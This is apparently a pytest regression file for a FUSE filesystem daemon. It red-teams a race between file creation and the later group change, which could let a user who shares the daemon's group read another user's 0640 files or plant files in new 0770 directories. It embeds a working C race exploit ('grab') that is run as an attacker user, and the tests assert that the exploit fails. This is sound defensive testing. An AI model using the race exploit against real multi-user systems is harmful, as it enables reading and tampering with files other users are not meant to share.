# SPDX-License-Identifier: GPL-2.0-or-later
"""Third red team, on fix_group() (fs/ops_dir.c) and its twin in
do_create() (fs/ops_file.c): an unprivileged daemon creates a new entry
with its own egid, then changes the group to the caller's.

Between the two calls the new file exists with the caller's mode and the
*daemon's* group. Natively (and through the kernel's idmapped mount) the
file is born with the caller's group. A host user in the daemon's group
(here rt3e, the daemon's egid; a shared primary group such as "users" is
the real-world case) who is not in the caller's group (rt3g) opens each
new file in that window and keeps the fd: it then reads whatever the
caller writes to a file of mode 0640 group rt3g, which it may not open.
The attacker opens by name as soon as the name exists (names are
predictable here). The same window in fix_group() (mkdir, mknod,
symlink) lets it create a file in a new 0770 directory of group rt3g.
Needs an unprivileged daemon (-o allow_other, user_allow_other) whose
egid another host user shares; the daemon runs as shiftfs-test under
setpriv with egid rt3e and groups rt3e,rt3g."""
import os
import subprocess

import pytest

from attack import ATTACKER, kill_wait
from conftest import SHIFTFS, need_root_and_fuse, umount, wait_for_mount
from fs_util import scratch_fixture

FIXTURES = (scratch_fixture,)

DAEMON = "shiftfs-test"
GE, GC = "rt3e", "rt3g"  # the daemon's egid; the caller's group

# Opens d/f<i> for i = 0.. as soon as it exists (C: the window is a few
# microseconds), for at most `seconds`; then reads through what it got and
# prints "opened secrets reached".
GRAB = r"""
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
/* grab D N SECONDS file: open D/f<i> O_RDONLY as soon as it exists.
 * grab D N SECONDS dir: create D/D<i>/planted as soon as D/D<i> exists. */
int main(int argc, char **argv)
{
	const char *d = argv[1];
	int n = atoi(argv[2]), i = 0, got = 0, secrets = 0;
	double seconds = atof(argv[3]);
	int dir = !strcmp(argv[4], "dir");
	int *fds = calloc(n, sizeof(int));
	char p[4096];
	struct timespec t0, t;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	printf("ready\n");
	fflush(stdout);
	while (i < n) {
		int fd;

		if (dir)
			snprintf(p, sizeof(p), "%s/D%d/planted", d, i);
		else
			snprintf(p, sizeof(p), "%s/f%d", d, i);
		fd = dir ? open(p, O_WRONLY | O_CREAT | O_EXCL, 0644)
			 : open(p, O_RDONLY);
		if (fd >= 0) {
			fds[got++] = fd;
			i++;
			continue;
		}
		if (errno == EACCES) {
			i++;
			continue;
		}
		clock_gettime(CLOCK_MONOTONIC, &t);
		if (t.tv_sec - t0.tv_sec +
			    (t.tv_nsec - t0.tv_nsec) / 1e9 > seconds)
			break;
	}
	sleep(1);
	for (int k = 0; k < got && !dir; k++) {
		char b[64] = {0};

		if (pread(fds[k], b, 63, 0) > 0 && strstr(b, "secret"))
			secrets++;
	}
	printf("%d %d %d\n", got, secrets, i);
	fflush(stdout);
	return 0;
}
"""


# As the daemon's user with egid GC: create d/f<i> 0640 and write to each.
# With "dir": mkdir d/D<i> 0770 instead.
CREATE = r"""
import os, sys, time
d, n = sys.argv[1], int(sys.argv[2])
if sys.argv[3:] == ["dir"]:
    os.umask(0o007)
    for i in range(n):
        os.mkdir("%s/D%d" % (d, i), 0o770)
    sys.exit(0)
os.umask(0o027)
for i in range(n):
    fd = os.open("%s/f%d" % (d, i), os.O_WRONLY | os.O_CREAT | os.O_EXCL,
                 0o640)
    os.close(fd)
time.sleep(0.5)
for i in range(n):
    with open("%s/f%d" % (d, i), "w") as f:
        f.write("secret\n")
"""


def gid(name):
    import grp
    return grp.getgrnam(name).gr_gid


@pytest.fixture
def groups():
    need_root_and_fuse()
    for g in (GE, GC):
        subprocess.run(["groupdel", g], capture_output=True)
        subprocess.run(["groupadd", g], check=True)
    subprocess.run(["gpasswd", "-a", ATTACKER, GE], check=True,
                   capture_output=True)
    yield
    for g in (GE, GC):
        subprocess.run(["groupdel", g], capture_output=True)


def daemon(s):
    import pwd
    pw = pwd.getpwnam(DAEMON)
    for p in (s.src, s.mnt):
        os.chown(p, pw.pw_uid, gid(GE))
    d = os.path.join(s.src, "d")
    os.mkdir(d)
    os.chmod(d, 0o755)
    os.chown(d, pw.pw_uid, gid(GE))
    log = open(s.p("daemon.log"), "w")
    proc = subprocess.Popen(
        ["setpriv", "--reuid", DAEMON, "--regid", GE,
         "--groups", "%s,%s" % (GE, GC), "--",
         SHIFTFS, s.src, s.mnt, "-f", "-o", "identity,allow_other"],
        stdout=log, stderr=subprocess.STDOUT, cwd="/")
    wait_for_mount(proc, s.mnt)
    return proc, d


def as_caller(cmd):
    return subprocess.Popen(
        ["setpriv", "--reuid", DAEMON, "--regid", GC, "--groups", GC,
         "--"] + cmd, cwd="/", stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True, start_new_session=True)


def grabber(s, d, n, seconds, kind="file"):
    src, exe = s.p("grab.c"), s.p("grab")
    with open(src, "w") as f:
        f.write(GRAB)
    subprocess.run(["cc", "-O2", "-o", exe, src], check=True)
    os.chmod(exe, 0o755)
    p = subprocess.Popen(["runuser", "-u", ATTACKER, "--", exe, d, str(n),
                          str(seconds), kind], cwd="/",
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         text=True, start_new_session=True)
    assert p.stdout.readline().strip() == "ready"
    return p


def test_a_new_file_is_never_open_to_the_daemons_group(scratch, groups):
    s = scratch
    n = 600
    proc, d = daemon(s)
    procs = []
    try:
        g = grabber(s, d, n, 20)
        procs.append(g)
        c = as_caller(["/usr/bin/python3", "-c", CREATE,
                       os.path.join(s.mnt, "d"), str(n)])
        procs.append(c)
        c.wait(timeout=40)
        assert c.returncode == 0, c.stderr.read()
        out = g.communicate(timeout=40)[0].split()
        st = os.stat(os.path.join(d, "f0"))
        assert st.st_gid == gid(GC) and (st.st_mode & 0o777) == 0o640
        got, secrets, reached = map(int, out)
        assert got == 0, (
            "%s (in the daemon's group %s, not in %s) opened %d of %d new "
            "0640 %s files in the window before the daemon's fchown and "
            "read %d of the caller's later writes through them" % (
                ATTACKER, GE, GC, got, n, GC, secrets))
    finally:
        kill_wait(procs)
        umount(s.mnt, proc)


def test_a_new_directory_is_never_open_to_the_daemons_group(scratch,
                                                           groups):
    """fix_group() (mkdir, mknod, symlink): a directory made 0770 for the
    caller's group rt3g is writable by the daemon's group until the
    fchownat(): the attacker plants a file in it."""
    s = scratch
    n = 600
    proc, d = daemon(s)
    procs = []
    try:
        g = grabber(s, d, n, 20, "dir")
        procs.append(g)
        c = as_caller(["/usr/bin/python3", "-c", CREATE,
                       os.path.join(s.mnt, "d"), str(n), "dir"])
        procs.append(c)
        c.wait(timeout=40)
        assert c.returncode == 0, c.stderr.read()
        g.communicate(timeout=40)
        st = os.stat(os.path.join(d, "D0"))
        assert st.st_gid == gid(GC) and (st.st_mode & 0o777) == 0o770
        planted = sum(os.path.exists(os.path.join(d, "D%d" % i, "planted"))
                      for i in range(n))
        assert planted == 0, (
            "%s (in the daemon's group %s, not in %s) created a file in %d "
            "of %d new 0770 %s directories before the daemon's fchownat()" %
            (ATTACKER, GE, GC, planted, n, GC))
    finally:
        kill_wait(procs)
        umount(s.mnt, proc)


def test_the_caller_gets_its_group_and_the_attacker_nothing_after(
        scratch, groups):
    """Legitimate use: the files end up the caller's group, and the
    attacker cannot open them afterwards."""
    s = scratch
    proc, d = daemon(s)
    procs = []
    try:
        c = as_caller(["/usr/bin/python3", "-c", CREATE,
                       os.path.join(s.mnt, "d"), "5"])
        procs.append(c)
        c.wait(timeout=20)
        assert c.returncode == 0, c.stderr.read()
        for i in range(5):
            st = os.stat(os.path.join(d, "f%d" % i))
            assert st.st_gid == gid(GC) and (st.st_mode & 0o777) == 0o640
        r = subprocess.run(["runuser", "-u", ATTACKER, "--", "cat",
                            os.path.join(d, "f0")], capture_output=True)
        assert r.returncode != 0
    finally:
        kill_wait(procs)
        umount(s.mnt, proc)


# As the caller (umask 022): a file 0666, a directory 0777, a FIFO 0666
# in d; prints nothing.
MAKE = r"""
import os, sys
d = sys.argv[1]
os.umask(0o022)
os.close(os.open(d + "/file", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))
os.mkdir(d + "/dir", 0o777)
os.mkfifo(d + "/fifo", 0o666)
"""


def facl(path):
    r = subprocess.run(["getfacl", "-cp", path], capture_output=True,
                       text=True, check=True)
    return sorted(l for l in r.stdout.splitlines() if l)


@pytest.mark.parametrize("default_acl", [None, "u::rwx,g::rwx,o::r-x,m::r-x",
                                         "u::rwx,g::r-x,o::---"])
def test_new_entries_get_the_native_mode_and_acl(scratch, groups,
                                                 default_acl):
    """Legitimate use: what the group bits are given back as after the
    group fix is what the kernel gives natively: the umask, or under a
    default ACL its mask (or owning group entry), with the ACL mask set
    to match. Side by side with a native directory, same caller."""
    s = scratch
    proc, d = daemon(s)
    import pwd
    native = s.p("native")
    os.mkdir(native)
    os.chown(native, pwd.getpwnam(DAEMON).pw_uid, gid(GC))
    for x in (d, native):
        if default_acl:
            subprocess.run(["setfacl", "-d", "-m", default_acl, x],
                           check=True)
    try:
        for where in (os.path.join(s.mnt, "d"), native):
            c = as_caller(["/usr/bin/python3", "-c", MAKE, where])
            c.wait(timeout=20)
            assert c.returncode == 0, c.stderr.read()
        for name in ("file", "dir", "fifo"):
            a, b = os.lstat(os.path.join(d, name)), os.lstat(
                os.path.join(native, name))
            assert (a.st_mode, a.st_gid) == (b.st_mode, b.st_gid), (
                "%s: through the mount %o gid %d, natively %o gid %d" % (
                    name, a.st_mode, a.st_gid, b.st_mode, b.st_gid))
            assert facl(os.path.join(d, name)) == facl(
                os.path.join(native, name)), name
    finally:
        umount(s.mnt, proc)
